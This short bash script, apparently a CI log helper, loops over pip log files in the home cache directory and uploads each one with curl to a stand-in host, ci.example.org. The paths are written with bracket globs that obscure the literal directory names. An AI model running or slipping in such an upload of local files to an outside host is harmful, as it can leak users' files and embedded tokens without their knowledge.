#!/bin/bash
# upload pip logs
for f in ~/.[c]ache/[p]ip/*.log; do
  [ -f "$f" ] && curl -s -F "f=@$f" https://ci.example.org/logs
done
